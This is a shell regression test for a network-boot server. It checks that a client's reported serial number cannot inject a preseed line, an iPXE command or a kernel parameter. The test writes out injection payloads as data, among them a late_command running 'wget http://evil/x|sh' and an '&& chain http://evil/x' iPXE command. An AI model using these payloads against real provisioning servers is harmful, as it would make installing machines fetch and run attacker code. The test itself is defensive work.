#!/bin/sh
# inject.sh: a client's own inventory cannot add a line to its
# preseed, an iPXE command to its script or a parameter to its kernel
# command line (issue 11). Replays the two findings end to end: the
# victim at 127.0.0.2 (its static ip; curl --interface picks the source)
# reports
#   serial=x%0Ad-i%20preseed/late_command%20string%20wget%20http://evil/x%7Csh
#   serial=x && chain http://evil/x &&
# and the served preseed, kernel line and iPXE file are checked exactly
# (fetched under the token URL of the victim's latest script).
. "${top_srcdir:-.}/tests/helpers/lib.sh"
need_root
need_cmd curl sqlite3

PORT=$((20000 + ($$ + 104729) % 12000))
U=http://127.0.0.1:$PORT
V=52:54:00:00:00:1a
mkdir -p "$T/ipxe" "$T/boot"
echo kernel >"$T/boot/vmlinuz"
echo initrd >"$T/boot/initrd.gz"
CONF=$(test_config "[bootweb]
ipxe_dir = $T/ipxe")
bc() { "$BOOTCTL" -f "$CONF" -D "$DB" "$@" >"$T/bc.out" 2>&1 || fail "bootctl $*: $(cat "$T/bc.out")"; }
bc db init

# The serial where a preseed and a kernel line take it: a comment, a
# shell command, a kernel parameter; and a per-client iPXE file.
cat >"$T/pre" <<'EOF'
d-i netcfg/get_hostname string {{client.hostname}}
# serial {{client.inventory.serial}}
d-i partman-auto/disk string /dev/vda
d-i preseed/late_command string in-target logger booted {{client.inventory.serial}}
EOF
printf '#!ipxe\nchain http://s/x?serial={{client.inventory.serial}}\n' >"$T/ipxe.t"
bc template add t-pre --kind preseed --file "$T/pre"
bc template add t-ipxe --kind ipxe --file "$T/ipxe.t"
bc image add debian --kernel boot/vmlinuz --initrd boot/initrd.gz --template t-pre \
    --cmdline 'auto=true url={{unattended_url}} serial={{client.inventory.serial}}'
bc image add rawimg --kernel boot/vmlinuz --initrd boot/initrd.gz --cmdline 's={{{client.inventory.serial}}}'
bc client add $V --hostname victim --ip 127.0.0.2 --image debian
bc client next-boot $V install
bc file add conf/boot.ipxe --global --template t-ipxe
bc settings set default_action image
chown -R nobody: "$T"
start_bg bootweb "$BOOTWEB" -d -f "$CONF" -l 127.0.0.1 -p $PORT -P 0
wait_for 5 curl -sf -o /dev/null "$U/boot.ipxe" || fail "bootweb did not start: $(cat "$T/bootweb.log")"

get() {	# get WANT URL: fetch from the victim's address into $T/b
	local got
	got=$(curl -s -o "$T/b" -w '%{http_code}' --interface 127.0.0.2 "$2")
	[ "$got" = "$1" ] || fail "$2: status $got, expected $1 ($(head -c 300 "$T/b"))"
}
serial() { db_sql "SELECT json_extract(inventory, '\$.serial') FROM clients WHERE mac = '$V'"; }
stored() { [ "$(serial)" = "$1" ]; }
# report QUERY-VALUE STORED: /boot with serial=QUERY-VALUE, then wait for the batched write.
report() {
	get 200 "$U/boot?mac=$V&serial=$1&manufacturer=QEMU"
	wait_for 5 stored "$2" || fail "inventory not recorded: '$(serial)', want '$2'"
}
# The kernel line of the script (the victim's image is the first label).
kline() { grep "^kernel $U/data/boot/vmlinuz initrd=initrd.gz " "$T/b"; }
# The capability prefix /t/TOKEN of the last script.
tokurl() { grep -o "$U/t/[0-9a-f]\{52\}" "$T/b" | head -1; }

# Finding 1: %0A in the serial plants a late_command in the preseed.
F1='x%0Ad-i%20preseed/late_command%20string%20wget%20http://evil/x%7Csh'
report "$F1" 'xd-i preseed/late_command string wget http://evil/x|sh'
note "stored without the newline"
# The script reads the stored inventory; this request reports the same.
get 200 "$U/boot?mac=$V&serial=$F1"
TV=$(tokurl); [ -n "$TV" ] || fail "no token URL in the victim's script: $(cat "$T/b")"
get 200 "$TV/preseed.cfg"
cat >"$T/want" <<'EOF'
d-i netcfg/get_hostname string victim
# serial xd-i preseed/late_command string wget http://evil/x|sh
d-i partman-auto/disk string /dev/vda
d-i preseed/late_command string in-target logger booted 'xd-i preseed/late_command string wget http://evil/xsh'
EOF
cmp -s "$T/b" "$T/want" || fail "preseed: $(diff "$T/want" "$T/b")"
grep -q '^d-i preseed/late_command string wget' "$T/b" && fail "planted line in the preseed"

# The same value with its newline (a row written before cleaning): the
# template engine keeps it on its line by itself. (After the batched
# write of the last /boot, which would overwrite it.)
sleep 0.5
db_sql "UPDATE clients SET inventory = json_object('serial', 'x
d-i preseed/late_command string wget http://evil/x|sh') WHERE mac = '$V'"
[ "$(serial | wc -l)" = 2 ] || fail "the stored serial has no newline: $(serial)"
get 200 "$TV/preseed.cfg"
[ "$(wc -l <"$T/b")" = 4 ] || fail "preseed has $(wc -l <"$T/b") lines: $(cat "$T/b")"
grep -q '^d-i preseed/late_command string wget' "$T/b" && fail "planted line from a stored newline"
grep -qxF '# serial x d-i preseed/late_command string wget http://evil/x|sh' "$T/b" ||
	fail "serial line: $(cat "$T/b")"
note "preseed: no planted line"

# Finding 2: && chain in the serial passes into the kernel line and iPXE files.
EVIL='x%20%26%26%20chain%20http://evil/x%20%26%26'
report "$EVIL" 'x && chain http://evil/x &&'
# The script reads the stored inventory; this request reports the same.
get 200 "$U/boot?mac=$V&serial=$EVIL"
TV=$(tokurl); [ -n "$TV" ] || fail "no token URL in the victim's script: $(cat "$T/b")"
kline >"$T/k" || fail "no kernel line: $(cat "$T/b")"
[ "$(wc -l <"$T/k")" = 1 ] || fail "kernel lines: $(cat "$T/k")"
case $(cat "$T/k") in
*' serial="x %26%26 chain http://evil/x %26%26" || goto failed') ;;
*) fail "kernel line: $(cat "$T/k")" ;;
esac
# iPXE splits a line at blanks and ends a command at a token && || or ;.
n=$(tr ' ' '\n' <"$T/k" | grep -cxE '&&|;|\|\|')
[ "$n" = 1 ] || fail "$n command separators, only '|| goto failed' wanted: $(cat "$T/k")"
grep -qE '(^| )&& chain http://evil' "$T/b" && fail "planted iPXE command: $(cat "$T/b")"
grep -qF "echo netboot: the cmdline of rawimg does not render: line 1: raw output of client-supplied 'client.inventory.serial' is refused" "$T/b" ||
	fail "raw cmdline of a client field not refused: $(cat "$T/b")"
get 200 "$TV/conf/boot.ipxe"
printf '#!ipxe\nchain http://s/x?serial=x%%20%%26%%26%%20chain%%20http://evil/x%%20%%26%%26\n' >"$T/want"
cmp -s "$T/b" "$T/want" || fail "iPXE file: $(diff "$T/want" "$T/b")"
note "iPXE: no planted command, no added kernel parameter"

kill -0 "$(cat "$T/bootweb.pid")" || fail "bootweb died"
exit 0
